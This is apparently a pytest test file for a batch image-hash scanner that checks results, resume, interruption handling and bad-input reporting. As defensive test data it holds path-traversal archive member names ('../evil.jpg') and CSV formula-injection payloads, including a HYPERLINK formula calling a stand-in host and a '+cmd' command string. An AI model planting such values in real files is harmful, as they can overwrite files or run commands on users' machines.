"""Batch runs end to end: corpus in, results folder out; matches, provenance, resume,
interruption and bad input. Most runs use the in-process engine (same ItemScanner as the
pool's workers); some use the real local process pool."""

from __future__ import annotations

import csv
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from batch_recording import SCANNED_LOG, TICK_S, RecordingScanner

from conftest import (
    SerialEngine,
    image,
    write_export,
    write_tar,
    write_zip,
)
from rempart.batch import BatchConfig, iter_rows, run_batch
from rempart.batch.local import LocalEngine
from rempart.errors import RempartError

Config = Callable[..., BatchConfig]


def _corpus(root: Path) -> dict[str, bytes]:
    """A folder with loose files, a ZIP, a TAR.GZ and a Telegram export; name -> bytes."""
    (root / "loose").mkdir(parents=True)
    files = {"loose/a.jpg": image(11), "loose/b.jpg": image(12)}
    for name, data in files.items():
        (root / name).write_bytes(data)
    (root / "loose" / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg")
    write_zip(root / "leak.zip", {"c.jpg": image(13), "../evil.jpg": image(14)})
    write_tar(root / "dump.tar.gz", {"d.jpg": image(15)}, mode="w:gz")
    write_export(root / "export", seeds=(16, 17))
    return files


def _rows(out: Path) -> dict[str, dict[str, Any]]:
    rows = list(iter_rows(out / "results.jsonl"))
    keys = [r["key"] for r in rows]
    assert len(keys) == len(set(keys)), "duplicate rows"
    return {r["path"]: r for r in rows}


def test_corpus_scanned_with_provenance_and_matches(
    tmp_path: Path, config: Config, add_to_bank: Callable[..., list[int]], serial: SerialEngine
) -> None:
    root = tmp_path / "corpus"
    _corpus(root)
    (entry_zip, entry_tg) = add_to_bank("reported", image(13), image(17))
    add_to_bank("other", image(99))
    summary = run_batch(config(root), engine=serial)
    rows = _rows(tmp_path / "out")
    assert summary.complete and summary.total == len(rows) == 10
    zipped = rows[f"{root / 'leak.zip'}!c.jpg"]
    assert zipped["source"] == {
        "kind": "zip",
        "archive": str(root / "leak.zip"),
        "member": "c.jpg",
    }
    assert [(m["bank"], m["entry_id"], m["distance"]) for m in zipped["matches"]] == [
        ("reported", entry_zip, 0)
    ]
    assert zipped["verdict"] in ("block", "review") and zipped["reasons"]
    tg = rows[f"{root / 'export'}/photos/photo_3@20-10-2020_12-00-00.jpg"]
    assert tg["matches"][0]["entry_id"] == entry_tg
    assert tg["source"]["chat"] == "Gallery" and tg["source"]["message_id"] == 3
    assert tg["source"]["sender"] == "nudify_bot" and tg["source"]["date"] == "2020-10-20T12:03:00"
    assert rows[f"{root / 'dump.tar.gz'}!d.jpg"]["source"]["kind"] == "tar"
    assert rows[f"{root / 'dump.tar.gz'}!d.jpg"]["matches"] == []
    assert rows[str(root / "loose" / "a.jpg")]["hashes"]["pdq_quality"] == 100
    errors = {p: r["error"]["code"] for p, r in rows.items() if "error" in r}
    assert errors.pop(str(root / "loose" / "broken.jpg")) in ("truncated", "corrupt")
    assert errors == {
        f"{root / 'leak.zip'}!../evil.jpg": "unsafe_path",
        f"{root / 'export'}/video_files/clip.mp4": "missing_media",
        f"{root / 'export'}/(File not included. Change data exporting settings to download.)": (
            "not_exported"
        ),
    }
    assert summary.tally.matched == 2 and summary.tally.bank_items == {"reported": 2}
    # The CSV holds the same rows as the JSONL.
    with (tmp_path / "out" / "results.csv").open(encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert sorted(r["key"] for r in table) == sorted(r["key"] for r in rows.values())
    by_key = {r["key"]: r for r in table}
    assert by_key[zipped["key"]]["matches"].startswith(f"reported:{entry_zip}:pdq:0/31")
    assert by_key[tg["key"]]["chat"] == "Gallery" and by_key[tg["key"]]["message_id"] == "3"
    assert (tmp_path / "out" / "report.html").is_file()
    run = json.loads((tmp_path / "out" / "run.json").read_text())
    assert run["options"]["banks"] is None and run["runs"][0]["complete"] is True


def test_resume_skips_done_items_and_repairs_a_torn_file(
    tmp_path: Path, config: Config, serial: SerialEngine
) -> None:
    root = tmp_path / "corpus"
    _corpus(root)
    out = tmp_path / "out"
    first = run_batch(config(root, limit=2), engine=serial)
    assert not first.complete and first.stats.scanned == 2
    assert len(_rows(out)) == 2 + 3  # two scanned, and the three that failed before scanning
    second = run_batch(config(root), engine=serial)
    # The media the export names but lacks is looked for again (it may have been copied).
    assert second.complete and second.skipped == 4 and second.stats.scanned == 5
    rows = _rows(out)
    assert len(rows) == 10
    # Lose two lines and tear the last one, as a crash in the middle of a write would.
    lines = (out / "results.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)
    kept = lines[:3] + lines[5:-1] + [lines[-1][:25]]
    (out / "results.jsonl").write_text("".join(kept), encoding="utf-8")
    third = run_batch(config(root), engine=serial)
    assert third.skipped == 7 and third.complete
    assert _rows(out).keys() == rows.keys()
    with (out / "results.csv").open(encoding="utf-8") as f:
        assert sorted(r["key"] for r in csv.DictReader(f)) == sorted(
            r["key"] for r in rows.values()
        )
    # Nothing left: a fourth run scans nothing.
    assert run_batch(config(root), engine=serial).stats.scanned == 0


class _Stop:
    """A progress display whose ``advance`` raises KeyboardInterrupt once, like Ctrl-C.

    With ``slow``, the advance before that one takes a while, so that several workers'
    results are waiting when the interrupt comes (the case where some used to be dropped).
    """

    def __init__(self, after: int, slow: float = 0.0) -> None:
        self.after = after
        self.slow = slow
        self.seen = 0

    def start(self, total: int, done: int) -> None:
        pass

    def advance(self) -> None:
        self.seen += 1
        if self.seen == self.after - 1:
            time.sleep(self.slow)
        if self.seen == self.after:
            raise KeyboardInterrupt


def _scanned(log: Path) -> list[str]:
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


def _many(root: Path, n: int) -> None:
    root.mkdir()
    for i in range(n):
        (root / f"{i:02d}.jpg").write_bytes(image(100 + i))


def test_interrupted_pool_loses_no_finished_result(
    tmp_path: Path, config: Config, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Interrupted while writing a row (the progress display raises KeyboardInterrupt, as a
    Ctrl-C arriving there would): every result a worker finished is written, exactly."""
    root = tmp_path / "many"
    _many(root, 16)
    log = tmp_path / "scanned.log"
    monkeypatch.setenv(SCANNED_LOG, str(log))
    out = tmp_path / "out"
    engine = LocalEngine(2, scanner=RecordingScanner)
    with pytest.raises(KeyboardInterrupt):
        run_batch(config(root), engine=engine, progress=_Stop(after=3, slow=3 * TICK_S))
    partial = _rows(out)
    # Rows written are exactly the items the workers finished: none dropped, none invented.
    assert sorted(r["key"] for r in partial.values()) == sorted(_scanned(log))
    assert 3 <= len(partial) < 16
    assert (out / "report.html").is_file()
    assert json.loads((out / "run.json").read_text())["runs"][0]["complete"] is False
    summary = run_batch(config(root), engine=LocalEngine(2))
    rows = _rows(out)
    assert summary.complete and len(rows) == 16
    assert summary.stats.scanned == 16 - len(partial)
    for path, row in partial.items():
        assert rows[path]["hashes"] == row["hashes"]  # kept as it was, not redone


_DRIVER = """
import sys
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from batch_recording import RecordingScanner
from rempart.batch import BatchConfig, run_batch
from rempart.batch.local import LocalEngine
from rempart.settings import load_settings

settings = load_settings(database_url=sys.argv[4])
config = BatchConfig([Path(sys.argv[2])], Path(sys.argv[3]), settings)
run_batch(config, engine=LocalEngine(2, scanner=RecordingScanner))
"""


def test_ctrl_c_writes_every_finished_result_before_exit(
    tmp_path: Path, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real SIGINT to a real `run_batch` process, whenever it lands."""
    import signal
    import subprocess
    import sys

    root = tmp_path / "many"
    _many(root, 24)
    log = tmp_path / "scanned.log"
    monkeypatch.setenv(SCANNED_LOG, str(log))
    out = tmp_path / "out"
    here = str(Path(__file__).parent)
    args = [sys.executable, "-c", _DRIVER, here, str(root), str(out), settings.database_url]
    proc = subprocess.Popen(args, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 120
        while len(_scanned(log)) < 4 and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.05)
        proc.send_signal(signal.SIGINT)
        _, stderr = proc.communicate(timeout=120)
    finally:
        proc.kill()
    assert proc.returncode != 0 and b"KeyboardInterrupt" in stderr, stderr.decode()[-2000:]
    rows = _rows(out)
    assert sorted(r["key"] for r in rows.values()) == sorted(_scanned(log))
    assert 4 <= len(rows) < 24
    assert json.loads((out / "run.json").read_text())["runs"][0]["complete"] is False


def test_local_pool_gives_the_same_rows_as_one_process(
    tmp_path: Path, config: Config, add_to_bank: Callable[..., list[int]], serial: SerialEngine
) -> None:
    root = tmp_path / "corpus"
    _corpus(root)
    add_to_bank("reported", image(11), image(15))
    run_batch(config(root, out=tmp_path / "serial"), engine=serial)
    summary = run_batch(config(root, out=tmp_path / "pool", workers=2))
    assert summary.stats.engine == "local" and summary.stats.workers == 2
    one, pool = _rows(tmp_path / "serial"), _rows(tmp_path / "pool")
    assert one.keys() == pool.keys()
    for path in one:
        for row in (one[path], pool[path]):
            row.pop("timings_ms", None)
            row.pop("scan_id", None)  # each results folder records its own scans
        assert one[path] == pool[path], path


def test_other_options_into_the_same_folder_are_refused(
    tmp_path: Path, config: Config, add_to_bank: Callable[..., list[int]], serial: SerialEngine
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.jpg").write_bytes(image(1))
    add_to_bank("reported", image(2))
    run_batch(config(tmp_path / "in"), engine=serial)
    with pytest.raises(RempartError) as exc:
        run_batch(config(tmp_path / "in", banks=("reported",)), engine=serial)
    assert exc.value.code == "batch_options_changed"
    with pytest.raises(RempartError) as exc:
        run_batch(config(tmp_path / "in", banks=("nope",), out=tmp_path / "o2"), engine=serial)
    assert exc.value.code == "bank_not_found"


def test_every_bad_input_is_a_row_and_the_scan_goes_on(
    tmp_path: Path, config: Config, serial: SerialEngine
) -> None:
    root = tmp_path / "bad"
    root.mkdir()
    (root / "good.jpg").write_bytes(image(1))
    (root / "empty.jpg").write_bytes(b"")
    (root / "text.jpg").write_text("not an image")
    locked = root / "locked.jpg"
    locked.write_bytes(image(2))
    locked.chmod(0)
    (root / "cut.zip").write_bytes(
        write_zip(tmp_path / "z.zip", {"a.jpg": image(3)}).read_bytes()[:-40]
    )
    write_zip(root / "trav.zip", {"../../x.jpg": image(4), "fine.jpg": image(5)})
    (root / "tg").mkdir()
    (root / "tg" / "result.json").write_text(  # an export cut short
        '{"name": "x", "type": "public_channel", "id": 1, "messages": [{"id": 1,',
        encoding="utf-8",
    )
    (root / "notes").mkdir()
    (root / "notes" / "result.json").write_text("{not json", encoding="utf-8")  # no export
    write_export(root / "tg2", seeds=(6,))
    try:
        summary = run_batch(config(root, tmp_path / "missing.jpg"), engine=serial)
    finally:
        locked.chmod(0o600)
    rows = _rows(tmp_path / "out")
    codes = {Path(p).name if "!" not in p else p.split("!")[1]: r.get("error", {}).get("code")
             for p, r in rows.items()}  # fmt: skip
    assert codes["good.jpg"] is None and codes["fine.jpg"] is None
    assert codes["empty.jpg"] == "empty_file"
    assert codes["text.jpg"] == "unsupported_format"
    import os

    if os.geteuid() != 0:  # root reads anything
        assert codes["locked.jpg"] == "unreadable"
    assert codes["cut.zip"] == "broken_archive"
    assert codes["../../x.jpg"] == "unsafe_path"
    assert codes["tg"] == "malformed_export"
    assert codes["result.json"] == "unsupported_format"  # an ordinary file
    assert codes["clip.mp4"] == "missing_media"
    assert codes["missing.jpg"] == "not_found"
    assert summary.complete and summary.tally.errors == sum(1 for c in codes.values() if c)
    for row in rows.values():
        if "error" in row:
            assert row["error"]["message"] and row["key"] and "source" in row


def test_csv_cells_that_would_be_formulas_are_neutralised(
    tmp_path: Path, config: Config, serial: SerialEngine
) -> None:
    """Member names, chat names and senders are untrusted: a spreadsheet must not run them."""
    root = tmp_path / "in"
    root.mkdir()
    payloads = ['=HYPERLINK("http://x.test/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    write_zip(root / "a.zip", {f"{p}.jpg": image(n) for n, p in enumerate(payloads)})
    chat = {
        "name": "=1+1",
        "type": "public_channel",
        "id": -1001234,
        "messages": [
            {"id": 1, "type": "message", "from": "\tTAB", "from_id": "user1",
             "date": "\r2020", "photo": "photos/p.jpg"},
        ],
    }  # fmt: skip
    (root / "export" / "photos").mkdir(parents=True)
    (root / "export" / "photos" / "p.jpg").write_bytes(image(9))
    (root / "export" / "result.json").write_text(json.dumps(chat), encoding="utf-8")
    run_batch(config(root), engine=serial)
    with (tmp_path / "out" / "results.csv").open(encoding="utf-8", newline="") as f:
        table = list(csv.DictReader(f))
    members = sorted(r["member"] for r in table if r["source_kind"] == "zip")
    assert members == sorted(f"'{p}.jpg" for p in payloads)
    (tg,) = [r for r in table if r["source_kind"] == "telegram"]
    assert tg["chat"] == "'=1+1" and tg["sender"] == "'\tTAB" and tg["date"] == "'\r2020"
    assert tg["chat_id"] == "-1001234"  # a number is a number, not a formula
    for r in table:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-1001234"
    # The JSONL keeps the names as they are.
    rows = list(iter_rows(tmp_path / "out" / "results.jsonl"))
    assert sorted(r["source"]["member"] for r in rows if "member" in r["source"]) == sorted(
        f"{p}.jpg" for p in payloads
    )


def test_other_inputs_into_the_same_folder_are_refused_unless_forced(
    tmp_path: Path, config: Config, serial: SerialEngine
) -> None:
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "a.jpg").write_bytes(image(len(name) + 40))
    run_batch(config(tmp_path / "one"), engine=serial)
    run = json.loads((tmp_path / "out" / "run.json").read_text())
    assert run["inputs"] == [str(tmp_path / "one")]
    with pytest.raises(RempartError) as exc:
        run_batch(config(tmp_path / "two"), engine=serial)
    assert exc.value.code == "batch_inputs_changed" and str(tmp_path / "two") in str(exc.value)
    assert "--force" in (exc.value.hint or "")
    assert len(_rows(tmp_path / "out")) == 1  # nothing written by the refused run
    # The same inputs again: fine (a resumed scan); with --force, the new ones are added.
    run_batch(config(tmp_path / "one"), engine=serial)
    summary = run_batch(config(tmp_path / "two", force=True), engine=serial)
    assert summary.stats.scanned == 1 and len(_rows(tmp_path / "out")) == 2
    run = json.loads((tmp_path / "out" / "run.json").read_text())
    assert run["inputs"] == [str(tmp_path / "one"), str(tmp_path / "two")]
    run_batch(config(tmp_path / "one", tmp_path / "two"), engine=serial)  # now both are its own


def test_items_that_failed_for_a_passing_reason_are_retried(
    tmp_path: Path, config: Config, serial: SerialEngine
) -> None:
    root = tmp_path / "in"
    root.mkdir()
    (root / "ok.jpg").write_bytes(image(1))
    (root / "bad.jpg").write_text("not an image")
    looped = root / "looped.jpg"
    looped.symlink_to(looped.name)  # a link to itself: unreadable, whoever reads it
    export = write_export(root / "export", seeds=(3,))
    first = run_batch(config(root), engine=serial)
    rows = {Path(r["path"]).name: r for r in _rows(tmp_path / "out").values()}
    assert rows["looped.jpg"]["error"]["code"] == "unreadable"
    assert rows["clip.mp4"]["error"]["code"] == "missing_media"
    assert first.tally.errors == 4  # looped, bad, the missing clip, the file not exported
    # Fixed since: the link replaced by the file, the export's copy finished.
    looped.unlink()
    looped.write_bytes(image(2))
    (export.root / "video_files" / "clip.mp4").write_bytes(image(4))
    second = run_batch(config(root), engine=serial)
    rows = {Path(r["path"]).name: r for r in _rows(tmp_path / "out").values()}
    assert "error" not in rows["looped.jpg"] and rows["looped.jpg"]["hashes"]["sha256"]
    assert "error" not in rows["clip.mp4"]  # what the export named is there now
    assert rows["bad.jpg"]["error"]["code"] == "unsupported_format"  # not worth a retry
    assert second.stats.scanned == 2 and second.tally.errors == 2 and second.complete
    assert len(rows) == 6
